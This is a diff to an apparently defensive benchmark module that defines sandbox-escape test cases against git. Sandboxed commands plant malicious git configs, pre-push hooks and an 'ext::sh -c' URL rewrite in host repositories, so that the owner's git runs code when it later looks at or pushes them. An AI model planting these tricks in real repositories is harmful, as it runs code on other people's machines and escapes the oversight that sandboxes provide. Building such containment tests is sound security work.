@@ -1,8 +1,8 @@
-"""Repositories that run code, or point out, when git looks at them: the sandbox's, then the owner's."""
+"""Repositories that run code, or point out, when git looks at them: the sandbox's, then the owner's, which also pushes."""
 
 from typing import Any
 
-from bench.attacks.attack import CHORE, Attack, fill_places, shell
+from bench.attacks.attack import CHORE, WON, Attack, fill_places, shell
 from bench.attacks.cases.paths import tool_attack
 from bench.attacks.stage import Stage
 from bench.attacks.subject import Subject
@@ -20,16 +20,36 @@ _EVIL = "printf '[core]\\nrepositoryformatversion = 0\\nbare = false\\nworktree 
 _MAKE = f"chmod -f 700 new; rm -rf x new y; git init -q --bare x && {_EVIL} > x/config"
 
 
-def _owner(name: str, repo: str, command: str) -> Attack:
+_RUNS = f"printf '#!/bin/sh\\n{_TOUCH}\\n'"
+# git reads these settings at a push: a program on the way to the other side.
+_AWAY = f"printf '[core]\\nrepositoryformatversion = 0\\nbare = false\\n[protocol]\\nallow = always\\n[url \"ext::sh -c {_TOUCH.replace(' ', '%% ')}%% \"]\\ninsteadOf = /\\n'"
+
+
+def _owner(name: str, repo: str, command: str, *, pushes: bool = False) -> Attack:
     """A command in a repository of the host, which the owner's git visits afterwards."""
 
     async def act(subject: Subject, stage: Stage) -> str:
-        enter = f"cd /repos/{repo} 2>/dev/null || cd {stage.places().get(repo, stage.project)}"
+        enter = f"cd /repos/{repo} 2>/dev/null || cd {stage.base / repo}"
         said = await subject.run(f"{enter}; {fill_places(command, stage)}")
-        stage.owner_looks()
+        if not stage.ran:  # else a command without walls has done it itself
+            (stage.owner_pushes if pushes else stage.owner_looks)(repo)
+            said += f"\n{WON}\nthe owner's git ran it" if stage.ran else ""
         return said
 
-    return Attack("git", f"the owner's git in {repo}: {name}", act)
+    verb = "push" if pushes else "git"
+    return Attack("git", f"the owner's {verb} in {repo}: {name}", act)
+
+
+def _pushed(repo: str, git: str, tree: str) -> tuple[Attack, ...]:
+    """What the owner's push would run of a repository, `git` its git directory and `tree` a working tree."""
+    hook = f"mkdir -p HOOKS; {_RUNS} > HOOKS/pre-push; chmod +x HOOKS/pre-push"
+    made = "rm -rf new; git init -q new; cd new; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x; "
+    return (
+        _owner("a hook", repo, hook.replace("HOOKS", f"{git}/hooks"), pushes=True),
+        _owner("another address", repo, f"{_AWAY} > {git}/config", pushes=True),
+        _owner("a hook of one that is made", repo, f"cd {tree}; {made}{hook.replace('HOOKS', '.git/hooks')}", pushes=True),
+        _owner("another address of one that is made", repo, f"cd {tree}; {made}{_AWAY} > .git/config", pushes=True),
+    )  # fmt: skip
 
 
 ATTACKS = (
@@ -71,6 +91,24 @@ ATTACKS = (
     _owner("its git directory moved away", "dot", f"mv .bare x; git init -q --bare .bare; {_EVIL} > .bare/config"),
     _owner("the file .git", "dot", f"{_MAKE}; rm -f .git; echo gitdir: x > .git"),
     _owner("settings of a working tree", "dot", f"{_MAKE}; echo ../../../x > .bare/worktrees/tree/commondir"),
-    shell(CHORE, "remove what was made", "cd /repos && chmod -f 700 app/new; rm -rf app/x app/new app/y hub/tree/x dot/x"),
+    _owner("settings of one in depth", "deep", f"{_EVIL} > in/er/.mirror/config"),
+    _owner("one in depth moved away", "deep", f"mv in y; mkdir -p in/er; git init -q --bare in/er/.mirror; {_EVIL} > in/er/.mirror/config"),
+    _owner("a repository beside one in depth", "deep", f"cd in/er; {_MAKE}"),
+    _owner("settings elsewhere", "apart", f"{_EVIL} > common/config"),
+    _owner("its commondir", "apart", f"{_MAKE}; echo ../x > own/commondir"),
+    _owner("the file .git", "apart", f"{_MAKE}; rm -f .git; echo gitdir: x > .git"),
+    _owner("settings of its submodule", "whole", f"{_EVIL} > .git/modules/tree/config"),
+    _owner("the file .git of its submodule", "whole", f"cd tree; {_MAKE}; rm -f .git; echo gitdir: x > .git"),
+    _owner("its submodule moved away", "whole", f"mv tree y; git init -q tree; {_EVIL} > tree/.git/config"),
+    _owner("settings of the one that borrows", "lent", f"{_EVIL} > tree/.git/config"),
+    _owner("the one that borrows moved away", "lent", f"mv tree y; git init -q tree; {_EVIL} > tree/.git/config"),
+    *_pushed("app", ".git", "."),
+    *_pushed("hub", ".", "tree"),
+    *_pushed("dot", ".bare", "tree"),
+    *_pushed("deep", "in/er/.mirror", "in"),
+    *_pushed("apart", "common", "."),
+    *_pushed("whole", ".git/modules/tree", "tree"),
+    *_pushed("lent", "tree/.git", "tree"),
+    shell(CHORE, "remove what was made", "cd /repos && chmod -f 700 app/new; rm -rf */x */y */new */*/x */*/new */*/*/x"),
     shell(CHORE, "remove it", "rm -rf r .git .voltaire"),
 )  # fmt: skip
